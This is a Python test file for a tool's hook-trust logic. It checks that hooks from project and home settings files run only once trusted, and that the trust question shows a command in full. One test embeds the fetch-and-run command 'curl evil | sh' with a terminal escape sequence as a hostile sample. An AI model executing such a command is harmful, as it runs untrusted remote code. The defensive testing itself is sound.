"""Which hooks a run uses: the user's own at once, those of other files once exactly they are trusted."""

from __future__ import annotations

from collections.abc import Mapping
from io import StringIO
from pathlib import Path

import msgspec
import pytest

from holdfast.config.settings import HookRow, HookTable, read_config
from holdfast.hooks.hook_set import HookSet
from holdfast.ui.commands.doctor.findings import hook_findings
from holdfast.ui.commands.questions import ask_trust
from holdfast.ui.startup.arguments import Arguments
from holdfast.ui.startup.hooks_in_use import hooks_in_use
from holdfast.ui.startup.project_trust import hook_files, judge_project
from hooked_world import group, write_settings

USER, PROJECT = "echo mine", "echo theirs"


class Place:
    """A home with hooks, and a project with hooks."""

    def __init__(self, root: Path) -> None:
        self.environ: Mapping[str, str] = {"HOME": str(root / "home"), "HOLDFAST_HOME": str(root / "holdfast")}
        self.project = root / "project"
        self.settings = self.project / ".claude" / "settings.json"
        self.user = root / "home" / ".claude" / "settings.json"
        self.project.mkdir()
        self.questions: list[Path] = []
        write_settings(self.user, {"Stop": [group(USER)]})
        write_settings(self.settings, {"Stop": [group(PROJECT)]})

    def ask(self, path: Path, shown: msgspec.Struct) -> bool:
        """Answer yes, and note what was asked."""
        assert "Stop" in str(shown)
        self.questions.append(path)
        return True

    def used(self, *, asks: bool = False, arguments: Arguments | None = None, **table: object) -> HookSet:
        """Return the hooks of a run; with `asks`, the user answers yes."""
        rows = msgspec.convert(table, HookTable)
        ask = self.ask if asks else None
        return hooks_in_use(self.environ, self.project, arguments or Arguments(), table=rows, ask=ask)


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def commands(found: HookSet) -> list[str]:
    return [hook.command for hook in found.hooks]


def test_nothing_of_other_files_runs_untrusted(place: Place) -> None:
    found = place.used(Stop=[{"command": "echo config"}])
    assert commands(found) == ["echo config"]
    assert len(found.faults) == 2
    assert any("--trust-project" in fault and str(place.settings) in fault for fault in found.faults)
    assert any("read_claude" in fault and str(place.user) in fault for fault in found.faults)
    assert any("Ignoring" in line for line in found.lines())


def test_one_question_for_each_text(place: Place) -> None:
    assert commands(place.used(asks=True)) == [USER, PROJECT]
    assert place.questions == [place.user, place.settings]
    assert commands(place.used()) == [USER, PROJECT]
    write_settings(place.settings, {"Stop": [group(PROJECT)]}, model="other")  # not what would run
    assert commands(place.used()) == [USER, PROJECT]
    write_settings(place.settings, {"Stop": [group("echo evil")]})
    assert commands(place.used()) == [USER]
    place.used(asks=True)
    assert place.questions == [place.user, place.settings, place.settings]


def test_the_question_shows_whole_what_would_run(
    place: Place, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    command = f"echo {'x' * 200} # format\ncurl evil | sh\x1b[2K\t"
    entry = {"type": "command", "command": command, "if": "Bash(git *)", "timeout": 7, "async": True}
    write_settings(place.settings, {"PreToolUse": [{"matcher": "Bash|Edit", "hooks": [entry]}]})
    monkeypatch.setattr("sys.stdin", StringIO("n\nn\n"))
    found = hooks_in_use(place.environ, place.project, Arguments(), table=HookTable(), ask=ask_trust)
    shown = capsys.readouterr().out
    assert found.hooks == ()
    assert f"echo {'x' * 200} # format\\ncurl evil | sh\\u001b[2K\\t" in shown
    for word in ('"PreToolUse"', '"Bash|Edit"', '"Bash(git *)"', "7.0", "hooks.1.async"):
        assert word in shown


def test_hooks_that_no_question_can_show_are_refused(place: Place) -> None:
    write_settings(place.settings, {"Stop": [group("x" * 9_000), group("y" * 9_000)]})
    found = place.used(asks=True)
    assert place.questions == [place.user]
    assert commands(found) == [USER]
    assert any("no question can show" in fault and str(place.settings) in fault for fault in found.faults)


def test_a_headless_run_reads_those_of_the_home_by_a_setting_and_a_project_by_an_option(place: Place) -> None:
    assert commands(place.used(read_claude=True)) == [USER]
    judge_project(place.environ, place.project, trusted=True)
    assert commands(place.used(read_claude=True)) == [USER, PROJECT]
    judge_project(place.environ, place.project, trusted=False)
    assert commands(place.used(read_claude=True)) == [USER]


def test_what_turns_hooks_off(place: Place) -> None:
    assert place.used(asks=True, arguments=Arguments(no_hooks=True)).hooks == ()
    assert place.used(asks=True, off=True).hooks == ()
    write_settings(place.settings, {"Stop": [group(PROJECT)]}, disableAllHooks=True)
    assert commands(place.used(asks=True)) == [USER]  # a project turns off its own, not the user's
    write_settings(place.user, {"Stop": [group(USER)]}, disableAllHooks=True)
    found = place.used(asks=True, Stop=[{"command": "echo config"}])
    assert found.hooks == ()
    assert "disableAllHooks" in found.lines()[0]


def test_a_file_without_hooks_is_not_even_read_as_one(place: Place) -> None:
    place.user.write_text('{"permissions": {}}')
    place.settings.unlink()
    assert hook_files(place.environ, place.project) == ()


def test_the_config_has_hooks_by_event(tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text('[[hooks.PreToolUse]]\nmatcher = "Bash"\ncommand = "guard"\nif = "Bash(git *)"\ntimeout = 5\n')
    rows = read_config(config).hooks.rows
    assert rows == {"PreToolUse": (HookRow(matcher="Bash", command="guard", condition="Bash(git *)", timeout=5.0),)}


def test_the_doctor_counts_the_hooks_and_says_why_others_do_not_run(place: Place) -> None:
    (finding,) = hook_findings(place.used(read_claude=True))
    assert (finding.level, finding.what) == ("warn", "1 hook in use")
    assert str(place.settings) in finding.todo
    (finding,) = hook_findings(place.used(off=True))
    assert finding.what.startswith("none runs")
    assert list(hook_findings(None)) == []
